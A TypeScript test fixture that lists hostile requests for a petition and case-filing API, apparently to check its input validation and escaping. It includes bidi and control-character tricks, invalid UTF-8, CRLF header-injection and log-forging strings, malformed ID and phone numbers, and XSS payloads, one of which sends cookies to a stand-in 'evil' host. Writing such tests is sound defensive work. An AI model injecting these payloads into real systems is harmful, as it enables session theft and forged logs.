import { fileWith, registerWith, key, type HostileRequest } from './types';

/** Characters that make text lie about itself, and bytes that are not text at all. */
const TRICKS: [string, string][] = [
  ['RLO bidi override', '正常标题\u202Egpj.exe'],
  ['LRE embedding', '标题\u202A内容'],
  ['RLI isolate', '标题\u2067内容\u2069'],
  ['PDF pop', '标题\u202C'],
  ['zero-width space', '楼道\u200B堆物'],
  ['zero-width non-joiner', '楼道\u200C堆物'],
  ['word joiner', '楼道\u2060堆物'],
  ['BOM inside', '\uFEFF楼道堆物'],
  ['NUL', '楼道\u0000堆物'],
  ['bell', '楼道\u0007堆物'],
  ['escape sequence', '楼道\u001B[31m堆物'],
  ['DEL', '楼道\u007F堆物'],
  ['C1 control', '楼道\u0085堆物'],
  ['replacement char', '楼道\uFFFD堆物'],
  ['lone high surrogate', '楼道\uD800堆物'],
  ['lone low surrogate', '楼道\uDC00堆物'],
  ['noncharacter', '楼道\uFFFF堆物'],
  ['LRM', '楼道\u200E堆物'],
];

export const unicode: HostileRequest[] = [
  ...TRICKS.flatMap(([label, s]): HostileRequest[] => [
    {
      class: 'unicode',
      name: `title: ${label}`,
      as: 'resident',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ title: s }),
    },
    {
      class: 'unicode',
      name: `facts: ${label}`,
      as: 'resident',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ facts: s }),
    },
    {
      class: 'unicode',
      name: `petitioner name: ${label}`,
      as: 'clerk',
      method: 'POST',
      url: '/api/cases/register',
      body: registerWith({ petitioner: { name: s } }),
    },
    {
      class: 'unicode',
      name: `note: ${label}`,
      as: 'clerk',
      method: 'POST',
      url: '/api/cases/{case}/notes',
      body: () => ({ idempotencyKey: key(), text: s }),
    },
  ]),
  ...[
    ['overlong slash C0 AF', [0xc0, 0xaf]],
    ['overlong NUL C0 80', [0xc0, 0x80]],
    ['overlong 3-byte E0 80 AF', [0xe0, 0x80, 0xaf]],
    ['truncated sequence', [0xe6, 0xa5]],
    ['lone continuation byte', [0x80]],
    ['CESU surrogate ED A0 80', [0xed, 0xa0, 0x80]],
    ['invalid F5 lead', [0xf5, 0x80, 0x80, 0x80]],
    ['GBK bytes', [0xc2, 0xa5, 0xb5, 0xc0]],
  ].map(([label, bytes]): HostileRequest => ({
    class: 'unicode',
    name: `invalid UTF-8 in JSON: ${label as string}`,
    as: 'resident',
    method: 'POST',
    url: '/api/cases',
    raw: Buffer.concat([
      Buffer.from(JSON.stringify(fileWith({ title: '楼道XX堆物' })()).split('XX')[0]!),
      Buffer.from(bytes as number[]),
      Buffer.from(JSON.stringify(fileWith({ title: '楼道XX堆物' })()).split('XX')[1]!),
    ]),
    headers: { 'content-type': 'application/json' },
  })),
  { class: 'unicode', name: 'NUL in a query', as: 'clerk', method: 'GET', url: '/api/cases?q=%00' },
  {
    class: 'unicode',
    name: 'RLO in a query',
    as: 'clerk',
    method: 'GET',
    url: `/api/cases?q=${encodeURIComponent('\u202E')}`,
  },
  { class: 'unicode', name: 'NUL in a path id', as: 'resident', method: 'GET', url: '/api/cases/abc%00def' },
  {
    class: 'unicode',
    name: 'invalid percent-encoding in a path',
    as: 'resident',
    method: 'GET',
    url: '/api/cases/%C0%AF',
  },
];

/** CR/LF in fields: log and header injection, forged lines in exported text. */
const CRLF: [string, string][] = [
  ['CRLF', '标题\r\n伪造的第二行'],
  ['CR alone', '标题\r伪造'],
  ['CRLF header injection', '标题\r\nSet-Cookie: x=1'],
  ['CRLF log forging', '标题\r\n{"level":30,"msg":"admin login ok"}'],
];
export const crlf: HostileRequest[] = [
  ...CRLF.flatMap(([label, s]): HostileRequest[] => [
    {
      class: 'crlf',
      name: `title: ${label}`,
      as: 'resident',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ title: s }),
    },
    {
      class: 'crlf',
      name: `address: ${label}`,
      as: 'resident',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ location: { address: s } }),
    },
    {
      class: 'crlf',
      name: `grid onBehalfOf name: ${label}`,
      as: 'grid',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ onBehalfOf: { name: s, phone: '13700000009', consentRecorded: true } }),
    },
    {
      class: 'crlf',
      name: `staff username: ${label}`,
      as: 'anonymous',
      method: 'POST',
      url: '/api/auth/staff/login',
      body: { username: `admin${s}`, password: 'x' },
    },
    {
      class: 'crlf',
      name: `unit name: ${label}`,
      as: 'admin',
      method: 'PATCH',
      url: '/api/admin/units/jd-st1',
      body: { name: s },
    },
    {
      class: 'crlf',
      name: `query: ${label}`,
      as: 'clerk',
      method: 'GET',
      url: `/api/cases?q=${encodeURIComponent(s.slice(0, 40))}`,
    },
  ]),
];

/** 居民身份证号 (GB 11643-1999 check digit, real dates) and mainland mobile numbers. */
export const idAndPhone: HostileRequest[] = [
  ...[
    ['wrong check digit', '110105194912310021'],
    ['wrong check digit X', '11010519491231002x'.replace('x', '9')],
    ['check digit X where 0 due', '11010519491231003X'],
    ['month 13', '110105194913310029'],
    ['day 32', '110105194912320020'],
    ['Feb 30', '110105194902300021'],
    ['future birth date', '110105209912310021'],
    ['17 digits', '11010519491231002'],
    ['19 digits', '1101051949123100211'],
    ['15-digit old format', '110105491231002'],
    ['letters', '11010519491231002A'],
    ['all zeros', '000000000000000000'],
    ['full-width digits', '１１０１０５１９４９１２３１００２Ｘ'],
    ['spaces', '110105 19491231 002X'],
    ['unknown region 99', '990105194912310029'],
  ].map(([label, id]): HostileRequest => ({
    class: 'id-number',
    name: `身份证号 ${label}`,
    as: 'clerk',
    method: 'POST',
    url: '/api/cases/register',
    body: registerWith({ petitioner: { name: '来访群众', idNumber: id } }),
  })),
  ...[
    ['10 digits', '1381234567'],
    ['12 digits', '138123456789'],
    ['starts with 12', '12812345678'],
    ['landline', '01012345678'],
    ['with +86', '+8613812345678'],
    ['with dashes', '138-1234-5678'],
    ['letters', '1381234567a'],
    ['full-width', '１３８１２３４５６７８'],
    ['empty', ''],
    ['spaces', '138 1234 5678'],
  ].flatMap(([label, phone]): HostileRequest[] => [
    {
      class: 'phone',
      name: `register phone ${label}`,
      as: 'clerk',
      method: 'POST',
      url: '/api/cases/register',
      body: registerWith({ petitioner: { name: '来访群众', phone } }),
    },
    {
      class: 'phone',
      name: `grid onBehalfOf phone ${label}`,
      as: 'grid',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ onBehalfOf: { name: '孙阿姨', phone, consentRecorded: true } }),
    },
    {
      class: 'phone',
      name: `sms send ${label}`,
      as: 'anonymous',
      method: 'POST',
      url: '/api/auth/sms/send',
      body: { phone },
    },
  ]),
];

/** Markup where the server expects an identifier: refused by the identifier's pattern. */
export const xssInIdentifiers: HostileRequest[] = [
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    "'-alert(1)-'",
  ].flatMap((x): HostileRequest[] => [
    {
      class: 'xss',
      name: `targetUnitId ${x}`,
      as: 'resident',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ targetUnitId: x }),
    },
    {
      class: 'xss',
      name: `subjectCode ${x}`,
      as: 'resident',
      method: 'POST',
      url: '/api/cases',
      body: fileWith({ subjectCode: x }),
    },
    {
      class: 'xss',
      name: `case id ${x}`,
      as: 'resident',
      method: 'GET',
      url: `/api/cases/${encodeURIComponent(x)}`,
    },
    {
      class: 'xss',
      name: `admin unit code ${x}`,
      as: 'admin',
      method: 'POST',
      url: '/api/admin/units',
      body: { code: x, name: '测试', kind: '职能部门', parentCode: 'jd-gov', regionCode: '990102' },
    },
  ]),
];

/**
 * Markup in free text: a petition may say "温度<5℃" or quote a web page, so text is kept as written and
 * returned as JSON data; it is never HTML anywhere (the Taro UI renders text nodes). Checked: stored
 * verbatim, returned verbatim with a JSON content type, nosniff and a script-blocking CSP.
 */
export const xssInText: HostileRequest[] = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(\'//evil\'+document.cookie)">',
  '<svg/onload=alert(1)>',
  '"><iframe src=javascript:alert(1)>',
  "{{constructor.constructor('alert(1)')()}}",
  '<a href="javascript:alert(1)">点我查看</a>',
].map((x, i): HostileRequest => ({
  class: 'xss-text',
  name: `title with markup #${i + 1}`,
  as: 'resident',
  method: 'POST',
  url: '/api/cases',
  body: fileWith({ title: `楼道堆物${x}`.slice(0, 100) }),
  expect: 'inert',
}));
